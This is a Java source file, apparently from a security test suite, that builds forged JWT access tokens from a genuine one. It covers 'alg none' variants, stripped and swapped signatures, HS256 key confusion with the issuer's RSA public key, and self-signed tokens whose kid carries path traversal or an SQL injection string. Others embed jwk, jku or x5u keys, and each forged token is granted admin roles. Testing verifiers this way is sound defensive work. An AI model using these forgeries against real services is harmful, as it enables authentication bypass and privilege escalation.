package org.hikeshi.deploy.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.KeyFactory;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.PublicKey;
import java.security.Signature;
import java.security.interfaces.RSAPublicKey;
import java.security.spec.RSAPublicKeySpec;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/// Tokens that nobody issued, made from one that somebody was given.
final class Forged {

  private final String[] genuine;
  private final PublicKey issuers;
  private final KeyPair own;

  /// @param genuine a valid access token
  /// @param keys the issuer's published keys
  Forged(String genuine, JsonNode keys) {
    this.genuine = genuine.split("\\.");
    try {
      this.issuers = signingKey(keys);
      var generator = KeyPairGenerator.getInstance("RSA");
      generator.initialize(2048);
      this.own = generator.generateKeyPair();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  /// Each by what is wrong with it.
  Map<String, String> all() {
    var forged = new LinkedHashMap<String, String>();
    for (var none : new String[] {"none", "None", "NONE", "nOnE"}) {
      forged.put("alg " + none, unsigned(header -> header.put("alg", none)) + ".");
    }
    forged.put("no signature", genuine[0] + "." + genuine[1] + ".");
    forged.put("signature of another token", genuine[0] + "." + admin() + "." + genuine[2]);
    forged.put("HS256 with the public key, DER", hmac(issuers.getEncoded()));
    forged.put("HS256 with the public key, PEM", hmac(pem().getBytes(StandardCharsets.UTF_8)));
    forged.put("HS256 with an empty key of zeros", hmac(new byte[32]));
    forged.put("signed by us, kid of the issuer", signed(_ -> {}));
    forged.put("kid of a file", signed(header -> header.put("kid", "../../../../dev/null")));
    forged.put("kid with SQL", signed(header -> header.put("kid", "x' union select 'x")));
    forged.put("without kid", signed(header -> header.remove("kid")));
    forged.put("our key in jwk", signed(header -> header.set("jwk", ownKey())));
    forged.put(
        "our key behind jku", signed(header -> header.put("jku", "http://127.0.0.1:9/jwks.json")));
    forged.put(
        "our key behind x5u", signed(header -> header.put("x5u", "http://127.0.0.1:9/x.pem")));
    forged.put("critical extension", signed(header -> header.putArray("crit").add("x")));
    forged.put("not a token", "not.a.token");
    forged.put("empty parts", "..");
    return forged;
  }

  private String unsigned(Consumer<ObjectNode> change) {
    var header = (ObjectNode) json(genuine[0]);
    change.accept(header);
    return encoded(header) + "." + admin();
  }

  private String signed(Consumer<ObjectNode> change) {
    var content = unsigned(change);
    try {
      var signature = Signature.getInstance("SHA256withRSA");
      signature.initSign(own.getPrivate());
      signature.update(content.getBytes(StandardCharsets.US_ASCII));
      return content + "." + base64(signature.sign());
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private String hmac(byte[] key) {
    var content = unsigned(header -> header.put("alg", "HS256"));
    try {
      var mac = Mac.getInstance("HmacSHA256");
      mac.init(new SecretKeySpec(key, "HmacSHA256"));
      return content + "." + base64(mac.doFinal(content.getBytes(StandardCharsets.US_ASCII)));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  /// The claims of the genuine one, with every role there is.
  private String admin() {
    var claims = (ObjectNode) json(genuine[1]);
    claims
        .putObject("realm_access")
        .putArray("roles")
        .add("admin")
        .add("coordinator")
        .add("service");
    return encoded(claims);
  }

  private ObjectNode ownKey() {
    var key = (RSAPublicKey) own.getPublic();
    return Door.JSON
        .createObjectNode()
        .put("kty", "RSA")
        .put("n", base64(key.getModulus().toByteArray()))
        .put("e", base64(key.getPublicExponent().toByteArray()));
  }

  private String pem() {
    return "-----BEGIN PUBLIC KEY-----\n"
        + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(issuers.getEncoded())
        + "\n-----END PUBLIC KEY-----\n";
  }

  private static PublicKey signingKey(JsonNode keys) throws GeneralSecurityException {
    for (var key : keys.path("keys")) {
      if (key.path("use").asText().equals("sig") && key.path("kty").asText().equals("RSA")) {
        return KeyFactory.getInstance("RSA")
            .generatePublic(new RSAPublicKeySpec(number(key.path("n")), number(key.path("e"))));
      }
    }
    throw new IllegalStateException("the issuer has no RSA key");
  }

  private static BigInteger number(JsonNode base64) {
    return new BigInteger(1, Base64.getUrlDecoder().decode(base64.asText()));
  }

  private static JsonNode json(String part) {
    try {
      return Door.JSON.readTree(Base64.getUrlDecoder().decode(part));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static String encoded(JsonNode json) {
    return base64(json.toString().getBytes(StandardCharsets.UTF_8));
  }

  private static String base64(byte[] bytes) {
    return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
  }
}
